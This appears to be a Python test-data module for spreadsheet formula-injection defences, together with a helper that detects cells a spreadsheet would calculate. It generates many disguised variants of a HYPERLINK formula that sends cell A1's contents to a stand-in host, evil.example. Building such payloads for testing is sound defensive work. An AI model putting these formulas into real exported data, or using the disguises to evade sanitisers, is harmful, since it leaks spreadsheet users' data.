"""Texts that a spreadsheet would calculate, in every disguise that we know, and how to tell that it would."""

import itertools

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
BEFORE = ("", "\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u200b", "\ufeff", " \t ")
QUOTED = ("", '"', "'", '""', "“")
SEPARATED = ("", "a,", "a;", "a\t", "a|", "a\n")
FORMULA = 'HYPERLINK("http://evil.example/?"&A1,"x")'

PAYLOADS = tuple(
    f"{separated}{before}{quote}{sign}{FORMULA}"
    for separated, before, quote, sign in itertools.product(SEPARATED, BEFORE, QUOTED, SIGNS)
)
UNSEEN = "".join(map(chr, range(33))) + "\u00a0\u200b\ufeff\"'“”"


def begins_a_formula(cell: str) -> bool:
    """Whether a spreadsheet that drops spaces, quotes and unseen signs would calculate `cell`."""
    return not cell.startswith("'") and cell.lstrip(UNSEEN).startswith(SIGNS)
